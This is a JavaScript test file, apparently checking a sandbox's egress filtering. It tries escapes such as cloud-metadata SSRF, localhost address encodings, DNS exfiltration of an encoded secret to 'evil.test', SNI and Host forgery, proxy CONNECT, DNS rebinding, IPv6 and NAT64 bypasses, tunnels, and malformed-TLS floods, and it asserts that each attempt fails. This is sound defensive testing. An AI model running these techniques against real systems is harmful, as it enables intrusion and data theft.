// What leaves a sandbox with a network, under attack. Each attempt stands beside one that is allowed and works.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { until } from '../lib/server.mjs';
import { CONNECT, HOST, HOST6, NAMES, WEB, WEB6, World, enterNamespace, processesOf, python } from '../network/world.mjs';

enterNamespace(import.meta.url);

const PKG = '5.5.5.11', EVIL = '5.5.5.12';
const OPEN = { mode: 'open' }, DENY = { mode: 'deny', deny: ['denied.test'] }, ALL = { mode: 'allow', allow: ['0.0.0.0/0', '::/0'] }, LIST = { mode: 'allow', allow: ['pkg.test'] };
let world, server, own;

before(async () => {
  world = await World.make();
  own = http.createServer((req, res) => res.end('the host\n')); // what must not be reached
  await new Promise((resolve) => own.listen(8099, '::', resolve));
  server = await world.start();
});

after(async () => {
  own.close();
  own.closeAllConnections();
  try {
    await server.destroy();
  } finally {
    world.end();
  }
});

const make = async (network) => (await server.create(network ? { network } : {})).id;

/** Attempts [host, port, bytes], all at once, and what became of each. */
const attempts = (id, list) => python(server, id, `${CONNECT}
from concurrent.futures import ThreadPoolExecutor
def one(what):
    try: return attempt(what[0], what[1], what[2].encode('latin1'))
    except Exception as e: return 'E' + type(e).__name__
print(json.dumps(list(ThreadPoolExecutor(64).map(one, json.loads(sys.argv[1])))))`, JSON.stringify(list));

const GET = (host) => `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
const curl = async (id, ...args) => {
  const done = await server.exec(id, ['curl', '-ksS', '-m', '10', '-f', ...args]);
  return done.exitCode === 0 ? JSON.parse(done.stdout).address : `curl ${done.exitCode}`;
};
const fails = (results, names) => results.forEach((result, i) => assert.match(result, /^(E[A-Z]|TIMEOUT$)/, `${names[i]}: ${result}`));

test('H83 the metadata services of clouds, in every mode', { timeout: 60000 }, async () => {
  const hosts = ['169.254.169.254', 'fd00:ec2::254', '168.63.129.16', '100.100.100.200', '192.0.0.192', '::ffff:169.254.169.254', '64:ff9b::a9fe:a9fe', '2002:a9fe:a9fe::1'];
  for (const network of [OPEN, DENY, ALL]) {
    const id = await make(network);
    assert.match((await attempts(id, [[WEB, 80, GET('web.test')]]))[0], /^HTTP\/1.1 200/, 'another server is reached');
    fails(await attempts(id, hosts.map((host) => [host, 80, GET('x')])), hosts);
    assert.match(await curl(id, 'http://metadata.google.internal/'), /^curl/);
    assert.match(await curl(id, 'http://metadata.google.internal/', '--resolve', 'metadata.google.internal:80:169.254.169.254'), /^curl/);
  }
});

test('H84 the host itself, by every form of its addresses', { timeout: 60000 }, async () => {
  assert.equal(await (await fetch(`http://${HOST}:8099/`)).text(), 'the host\n', 'it answers those who reach it');
  const hosts = ['127.0.0.1', '127.9.9.9', '0.0.0.0', '::1', '::', HOST, HOST6, `::ffff:${HOST}`, '::ffff:127.0.0.1', '::127.0.0.1', '64:ff9b::7f00:1', 'fe80::1', '10.0.2.2', '10.0.2.15', '172.17.0.1', '192.168.9.1'];
  for (const network of [OPEN, DENY, ALL]) {
    const id = await make(network);
    fails(await attempts(id, hosts.flatMap((host) => [[host, 8099, GET('x')], [host, server.port, GET('x')]])), hosts.flatMap((host) => [host, `${host} API`]));
    for (const url of ['http://2130706433:8099/', 'http://0x7f000001:8099/', 'http://0177.0.0.1:8099/', 'http://127.1:8099/', `http://${parseInt('05050501', 16)}:8099/`]) assert.match(await curl(id, url), /^curl/, url);
    assert.match((await attempts(id, [[WEB, 80, GET('web.test')]]))[0], /^HTTP\/1.1 200/);
  }
});

test('H85 neighbours: there is no link on which anybody could be somebody else', { timeout: 60000 }, async () => {
  const [one, other] = [await make(OPEN), await make(OPEN)];
  await server.request('POST', `/v1/sandboxes/${other}/processes`, { command: ['python3', '-m', 'http.server', '8000', '--bind', '::'] });
  await until('it listens', async () => (await server.exec(other, 'curl -sS -m 5 http://127.0.0.1:8000/')).exitCode === 0);
  const out = await python(server, one, `
import errno, json, socket
def raw(*kind):
    try: socket.socket(*kind); return 'open'
    except OSError as e: return errno.errorcode[e.errno]
links = [name for _, name in socket.if_nameindex()]
print(json.dumps([links, raw(socket.AF_PACKET, socket.SOCK_RAW), raw(socket.AF_PACKET, socket.SOCK_DGRAM), raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), raw(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)]))`);
  for (const result of out.slice(1)) assert.notEqual(result, 'open');
  const hosts = ['10.0.2.15', 'fd00::15', '10.0.2.16'];
  fails(await attempts(one, hosts.map((host) => [host, 8000, GET('x')])), hosts);
  assert.equal(await curl(one, 'http://pkg.test/'), PKG);
});

test('H86 without a network there is no route and no name', { timeout: 60000 }, async () => {
  const id = await make();
  await world.asked();
  const hosts = [WEB, WEB6, '192.0.2.53', '8.8.8.8', HOST];
  for (const result of await attempts(id, hosts.map((host) => [host, 53, 'x']))) assert.equal(result, 'ENETUNREACH');
  assert.equal(await curl(id, 'http://pkg.test/'), 'curl 6');
  assert.deepEqual(await world.asked(), []);
  assert.equal((await server.exec(id, 'cat /proc/net/route | wc -l')).stdout.trim(), '1', 'the head of the table is all');
});

test('H87 an allow list: addresses, forged and missing names, proxies, edges of names', { timeout: 120000 }, async () => {
  const id = await make({ mode: 'allow', allow: ['pkg.test', '*.wild.test'] });
  assert.equal(await curl(id, 'https://pkg.test/'), PKG);
  assert.equal(await curl(id, 'https://a.wild.test/'), PKG);
  assert.equal(await curl(id, 'https://pkg.test/', '--resolve', `pkg.test:443:${EVIL}`), PKG, 'a forged SNI leads to its owner');
  assert.equal(await curl(id, 'http://pkg.test/', '--resolve', `pkg.test:80:${EVIL}`), PKG, 'a forged Host, too');
  for (const url of [`https://${EVIL}/`, `https://${PKG}/`, `http://${EVIL}/`]) assert.match(await curl(id, url), /^curl/, url);
  for (const name of ['wild.test', 'evilwild.test', 'a.wild.test.evil.test', 'evil.test', 'pkg.test.evil.test', 'xn--pkg-test.evil.test']) {
    for (const scheme of ['https', 'http']) {
      const port = scheme === 'https' ? 443 : 80;
      assert.match(await curl(id, `${scheme}://${name}/`, '--resolve', `${name}:${port}:${EVIL}`), /^curl/, `${scheme} ${name}`);
    }
  }
  assert.match(await curl(id, '--http2-prior-knowledge', 'http://pkg.test/'), /^curl/);
  assert.match(await curl(id, '-x', 'http://pkg.test:80', 'http://evil.test/'), /^curl/, 'an absolute target');
  assert.match(await curl(id, '-p', '-x', 'http://pkg.test:80', 'http://evil.test/'), /^curl/, 'CONNECT');
});

test('H88 names that are not allowed are asked of nobody, by no protocol', { timeout: 60000 }, async () => {
  const id = await make(LIST);
  await world.asked();
  await python(server, id, `
import json, socket, struct
def ask(name, kind, server, tcp):
    q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1)
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.connect((server, 53))
        s.sendall((struct.pack('>H', len(q)) if tcp else b'') + q)
        return s.recv(4096)[2 if tcp else 0:][3] & 15
    except OSError: return -1
for server in ['192.0.2.53', '8.8.8.8', '${WEB}', '2001:4860:4860::8888']:
    for tcp in [False, True]:
        for kind in [1, 28, 16, 10, 5, 12, 255, 65]:
            ask('c2VjcmV0.evil.test', kind, server, tcp)
print('0')`);
  assert.deepEqual((await world.asked()).map((q) => q.name), []);
  fails(await attempts(id, [['1.1.1.1', 853, '\x16\x03'], ['8.8.8.8', 853, '\x01']]), ['DoT', 'DoT']);
  assert.match(await curl(id, 'https://1.1.1.1/dns-query?name=evil.test'), /^curl/, 'DoH');
  const udp = await python(server, id, `
import errno, json, socket
out = []
for port in [443, 123, 4500]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.connect(('${PKG}', port))
    try: s.send(b'x'); s.recv(1); out.append('data')
    except OSError as e: out.append(errno.errorcode.get(e.errno, 'TIMEOUT'))
print(json.dumps(out))`);
  assert.deepEqual(udp, ['ECONNREFUSED', 'ECONNREFUSED', 'ECONNREFUSED'], 'QUIC and the rest');
  assert.equal(await curl(id, 'https://pkg.test/'), PKG);
  assert.ok((await world.asked()).some((q) => q.name === 'pkg.test'), 'what is allowed is asked for');
});

test('H89 an allowed name that leads to private addresses, at once or later', { timeout: 60000 }, async () => {
  const id = await make({ mode: 'allow', allow: ['pkg.test', 'turns.test', 'private.test', 'sneaky.test'] });
  const told = (data) => world.names({ ...NAMES, 'turns.test': [{ type: 'A', data, ttl: 0 }] });
  told(PKG);
  await until('it is told', async () => (await curl(id, 'http://turns.test/')) === PKG);
  for (const data of ['127.0.0.1', '10.9.0.1', '169.254.169.254', HOST]) {
    told(data);
    await until(`it is told ${data}`, async () => (await server.exec(id, 'getent ahostsv4 turns.test')).exitCode !== 0);
    for (const address of [data, EVIL]) assert.match(await curl(id, 'http://turns.test:8099/', '--resolve', `turns.test:8099:${address}`), /^curl/, `${data} at ${address}`);
    assert.match(await curl(id, 'http://turns.test/', '--resolve', `turns.test:80:${EVIL}`), /^curl/, data);
  }
  for (const name of ['private.test', 'sneaky.test']) assert.match(await curl(id, `http://${name}/`), /^curl/);
  world.names(NAMES);
});

test('H90 a redirect from what is allowed to what is not', { timeout: 60000 }, async () => {
  const id = await make(LIST);
  assert.equal(await curl(id, 'http://pkg.test/'), PKG);
  const done = await server.exec(id, ['curl', '-ksSL', '-m', '10', '-f', '-w', '%{redirect_url} %{num_redirects}', '-o', '/dev/null', `http://pkg.test/to/http://${EVIL}/`]);
  assert.notEqual(done.exitCode, 0, done.stdout);
  assert.match(done.stdout, / 1$/, 'it was followed, and ended there');
});

test('H91 a connection whose rule goes ends with it', { timeout: 60000 }, async () => {
  const id = await make({ mode: 'allow', allow: ['pkg.test', 'web.test'] });
  const hold = `
import errno, socket, sys, time
s = socket.create_connection((sys.argv[1], 7)); s.settimeout(10)
f = '/tmp/' + sys.argv[1]
try:
    while True:
        s.sendall(b'x\\n'); s.recv(2); open(f, 'a').write('x'); time.sleep(0.05)
except OSError as e: open(f + '.end', 'w').write(errno.errorcode.get(e.errno, str(e)))`;
  for (const name of ['pkg.test', 'web.test']) await server.request('POST', `/v1/sandboxes/${id}/processes`, { command: ['python3', '-c', hold, name] });
  const size = async (name) => (await server.exec(id, `cat /tmp/${name}`)).stdout.length;
  for (const name of ['pkg.test', 'web.test']) await until(`${name} is open`, async () => (await size(name)) > 0);
  assert.equal((await server.request('PUT', `/v1/sandboxes/${id}/network`, { mode: 'allow', allow: ['web.test'] })).status, 200);
  await until('it was reset', async () => (await server.exec(id, 'cat /tmp/pkg.test.end')).stdout === 'ECONNRESET');
  const was = await size('web.test');
  await until('the other goes on', async () => (await size('web.test')) > was);
});

test('H92 IPv6 where lists are written for IPv4', { timeout: 60000 }, async () => {
  const allowed = await make({ mode: 'allow', allow: [WEB] });
  const results = await attempts(allowed, [[WEB, 27, ''], [`::ffff:${WEB}`, 27, ''], [WEB6, 27, '\x01'], [`64:ff9b::505:50c`, 27, '\x01'], [`2002:505:50c::1`, 27, '\x01']]);
  assert.deepEqual(results.slice(0, 2), ['whole\n', 'whole\n']);
  fails(results.slice(2), ['IPv6', 'NAT64', '6to4']);
  const denied = await make({ mode: 'deny', deny: ['0.0.0.0/0'] });
  const others = await attempts(denied, [[WEB6, 27, ''], [WEB, 27, ''], [`::ffff:${WEB}`, 27, ''], ['64:ff9b::505:50a', 27, '']]);
  assert.equal(others[0], 'whole\n');
  fails(others.slice(1), ['IPv4', 'mapped', 'NAT64']);
});

test('H93 tunnels, raw packets and source routes', { timeout: 60000 }, async () => {
  const id = await make(OPEN);
  const out = await python(server, id, `
import errno, json, socket
def raw(protocol):
    try: socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol); return 'open'
    except OSError as e: return errno.errorcode[e.errno]
def routed():
    s = socket.socket()
    try: s.setsockopt(0, 4, bytes([131, 7, 4]) + socket.inet_aton('${HOST}') + b'\\0')
    except OSError as e: return errno.errorcode[e.errno]
    s.settimeout(10)
    try: s.connect(('${WEB}', 27)); return s.recv(10).decode()
    except OSError as e: return errno.errorcode.get(e.errno, 'TIMEOUT')
def sctp():
    try: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(('${WEB}', 27)); return 'open'
    except OSError as e: return errno.errorcode[e.errno]
print(json.dumps([[raw(p) for p in [1, 4, 41, 47, 50, 255]], routed(), sctp()]))`);
  for (const result of out[0]) assert.notEqual(result, 'open');
  assert.notEqual(out[2], 'open');
  assert.ok(out[1] === 'whole\n' || /^E/.test(out[1]), `a source route leads nowhere else: ${out[1]}`);
  const links = await server.exec(id, 'ip link add t0 type gre remote 5.5.5.10 2>&1 || ip link add v0 type vxlan id 1 remote 5.5.5.10 dstport 4789 2>&1');
  assert.notEqual(links.exitCode, 0);
  assert.equal((await attempts(id, [[WEB, 27, '']]))[0], 'whole\n');
});

test('H95 the process that decides: broken beginnings, too many of them, and its death', { timeout: 120000 }, async () => {
  const [id, other] = [await make(LIST), await make(LIST)];
  const out = await python(server, id, `
import json, os, random, socket, struct
random.seed(7)
names = b''.join(b'\\0' + struct.pack('>H', 8) + b'pkg.test' for _ in range(1400))
ext = struct.pack('>HH', 0, len(names) + 2) + struct.pack('>H', len(names)) + names
body = b'\\3\\3' + b'r' * 32 + b'\\0' + b'\\0\\2\\x13\\1' + b'\\1\\0' + struct.pack('>H', len(ext)) + ext
hello = b'\\x16\\3\\1' + struct.pack('>H', len(body) + 4) + b'\\1' + struct.pack('>I', len(body))[1:] + body
begins = [hello, hello[:30], b'\\x16\\3\\1\\0\\0', b'\\x16' * 20000, b'GET / HTTP/1.1\\r\\n' + b'a: b\\r\\n' * 9000, b'GET ' + b'/' * 40000, b'\\r\\n' * 20000]
begins += [b'\\x16\\3\\1' + struct.pack('>H', n) + os.urandom(n) for n in range(1, 400, 7)]
begins += [hello[:k] + bytes([random.randrange(256)]) + hello[k + 1:400] for k in range(5, 395, 5)]
seen = set()
for data in begins:
    s = socket.create_connection(('${EVIL}', 443))
    s.settimeout(0.05)
    try:
        s.sendall(data)
        got = s.recv(100)
        seen.add(got[:12].decode('latin1'))
    except socket.timeout: pass
    except OSError: pass
    s.close()
held = []
for i in range(400):
    try:
        s = socket.create_connection(('${EVIL}', 443)); s.sendall(b'\\x16\\3'); held.append(s)
    except OSError: pass
print(json.dumps(sorted(seen)))`);
  for (const what of out) assert.ok(what === '' || what === 'HTTP/1.1 403', what);
  assert.equal(await curl(other, 'https://pkg.test/'), PKG, 'others are served');
  const [pid] = processesOf(server, 'bunker-egress');
  process.kill(pid, 'SIGSTOP');
  fails(await attempts(other, [[EVIL, 7, '\x01'], [PKG, 443, GET('pkg.test')]]), ['while it stands', 'while it stands']);
  process.kill(pid, 'SIGKILL');
  await until('it is back', async () => (await curl(other, 'https://pkg.test/')) === PKG);
  assert.match(await curl(other, 'https://evil.test/', '--resolve', `evil.test:443:${EVIL}`), /^curl/, 'with its lists');
  await until('the attacker is served, too', async () => (await curl(id, 'https://pkg.test/')) === PKG);
});
